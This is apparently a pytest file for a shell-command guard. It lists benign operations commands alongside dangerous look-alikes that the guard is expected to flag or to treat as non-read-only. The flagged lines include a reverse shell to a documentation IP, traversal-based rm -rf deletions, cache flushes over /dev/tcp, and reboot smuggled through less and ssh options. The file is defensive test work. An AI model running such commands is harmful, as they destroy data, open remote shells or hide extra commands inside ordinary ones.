"""Lines of daily work that were once asked about, or not taken as reading, and near them those that must be."""

from __future__ import annotations

import pytest

from safeshell.guard.effects import Severity
from safeshell.shell.context import ShellContext
from tests.shell.readings import read

PERSON = ShellContext(home="/home/me", cwd="/home/me/app")

ALLOWED_IN_PRODUCTION = """
make deploy-staging
make migrate-status
make release-notes
docker cp f web:/tmp/f
kubectl cp dump.sql web-1:/tmp/dump.sql
git remote set-url origin git@example.com:a/b.git
T=$(mktemp -d); rm -rf "$T"
T=`mktemp -d`; rm -rf $T
D=$(mktemp -d) && cd $D && git clone x . && cd - && rm -rf $D
T=$(mktemp); curl -s https://example.com/x > $T; diff $T y; rm -f $T
env $(cat .env) ./run
env $(grep -v '^#' .env | xargs) npm start
timeout 5 bash -c 'cat < /dev/null > /dev/tcp/10.0.0.3/443' && echo ok
(echo > /dev/tcp/db1/22) >/dev/null 2>&1 && echo up
redis-cli help flushall
kubectl create job old --image=busybox --dry-run=client -o yaml -- rm -rf /x
""".strip().splitlines()

ASKED_IN_PRODUCTION = r"""
make deploy
make deploy-staging deploy
make deploy-staging ENV=production
docker cp f web:/etc/f
docker cp f web:/tmp/../etc/f
kubectl cp app.conf web-1:/etc/app.conf
T=$(mktemp -d); rm -rf "$T/.."
T=$(mktemp -d); rm -rf "$T"/../../etc
T=$(mktemp -d); rm -rf $T /
T=$(mktemp -d); T=/; rm -rf $T
T=$(mktemp -d -p /srv); rm -rf $T
T=$(mktemp -d /etc/x.XXXX); rm -rf $T
T=$(mktemp); mv $T /etc/hosts
env $(cat .env) rm -rf /srv
env $(cat .env) $X
env $(cat words) ls
echo FLUSHALL > /dev/tcp/cache1/6379
bash -i >& /dev/tcp/192.0.2.1/99 0>&1
(echo flush_all; sleep 1) | nc localhost 11211
printf 'DELETE /orders HTTP/1.0\r\n\r\n' | nc localhost 9200
redis-cli flushall help
kubectl create job old --image=busybox -- rm --dry-run=client -rf /data
kubectl run x --image=a --dry-run=none -- rm -rf /data
find . -exec $APP {} +
xargs $(which rm)
""".strip().splitlines()

READING = r"""
POD=$(kubectl get pods -l app=web -o jsonpath='{.items[0].metadata.name}'); kubectl logs $POD --tail 50
kubectl logs $(kubectl get pods -l app=web -o name | head -1) | tail
kubectl -n $NS get pods
journalctl -u $SERVICE -n 50
git log $(git describe --tags --abbrev=0)..HEAD --oneline
git diff $(git merge-base main HEAD)
git grep -c foo $(git rev-list --all | head -5)
git show $SHA
strace -f -tt -p $(pgrep -o php-fpm) 2>&1 | grep -v EAGAIN | head -100
for pid in $(pgrep -f sidekiq); do echo "$pid $(awk '/VmRSS/{print $2}' /proc/$pid/status)"; done
kill -0 $(cat /run/nginx.pid) && echo alive
find $DIR -type f
curl -s $URL
sort $FILE | uniq -c
less $LOG
nc -z $HOST $PORT
timeout 3 bash -c ': > /dev/tcp/db1/5432'
timeout 5 bash -c 'cat < /dev/null > /dev/tcp/10.0.0.3/443' && echo ok
(echo > /dev/tcp/db1/22) 2>/dev/null && echo up
(echo stats; sleep 1) | nc localhost 11211
printf 'GET / HTTP/1.0\r\n\r\n' | nc localhost 80
echo -e 'GET /health HTTP/1.1\nHost: x\n\n' | nc -w 2 web1 80
perl -nle 'print if $. > 10 && $. < 20' f
perl -MJSON -ne 'print decode_json($_)->{msg}, "\n"' log
ruby -e 'puts Time.at(1700000000)'
expr 3 + 4
datamash -g1 count 1 < f
ldconfig -p | grep ssl
exportfs -v
smbclient -L //files1
snmpwalk -v2c -c public sw1 sysDescr
klist
wbinfo -u
pihole status
infocmp
goaccess access.log
capinfos a.pcap
bpftool prog list
trace-cmd report
udevadm info /dev/sda
grpcurl -plaintext localhost:50051 list
grpc_health_probe -addr=localhost:50051
step certificate inspect c.pem
certtool -i --infile c.pem
java -XX:+PrintFlagsFinal -version | grep HeapSize
python3 -m zipfile -l x.zip
ssh -T git@github.com
""".strip().splitlines()

NOT_READING = r"""
find . $ARGS
find . $(cat words) -type f
git log $OPTS
git log $(echo --output=f; date)
kubectl logs $(curl -s http://example.com/x)
sort -o $FILE a
sort $X f
uniq a $FILE
date $DATE
hostname $HOST
git branch $BRANCH
git tag $TAG
sed $FILE x
awk $FILE x
nc $HOST $PORT
less +!reboot $FILE
tcpdump -w $FILE
curl -o $FILE $URL
kubectl $NAME
bash $FILE
(echo stats; cat x) | nc localhost 11211
(echo stats; echo set a 0 0 1) | nc localhost 11211
printf 'POST / HTTP/1.0\r\n\r\n' | nc localhost 80
printf 'GET / HTTP/1.0\r\n\r\nDELETE /x HTTP/1.0\r\n\r\n' | nc localhost 80
cat job > /dev/tcp/db1/9100
exec 3<>/dev/tcp/web1/80
perl -e '&{"rmtree"}("/srv")'
perl -e '$a && unlink("f")'
exportfs -ra
ldconfig
smbclient //files1/share -c 'del x'
wbinfo --change-secret
udevadm trigger
goaccess access.log -o report.html
grpcurl -plaintext localhost:50051 app.Orders/Delete
java -XX:OnError=reboot -version
python3 -m zipfile -e x.zip /srv
ssh -o ProxyCommand=reboot git@github.com
""".strip().splitlines()


@pytest.mark.parametrize("line", ALLOWED_IN_PRODUCTION)
def test_everyday_work_is_not_asked_about_in_guarded_production(line: str) -> None:
    reading = read(line, PERSON)

    assert reading.severity < Severity.MEDIUM, [finding.rule for finding in reading.findings]


@pytest.mark.parametrize("line", ASKED_IN_PRODUCTION)
def test_what_looks_like_it_and_does_harm_is_asked_about(line: str) -> None:
    assert read(line, PERSON).severity >= Severity.MEDIUM


@pytest.mark.parametrize("line", READING)
def test_looking_is_never_refused_in_read_only_mode(line: str) -> None:
    reading = read(line, PERSON)

    assert reading.reads, [command.name for command in reading.commands if not command.reads]


@pytest.mark.parametrize("line", NOT_READING)
def test_what_looks_like_looking_and_may_change_something_is_no_reading(line: str) -> None:
    assert not read(line, PERSON).reads
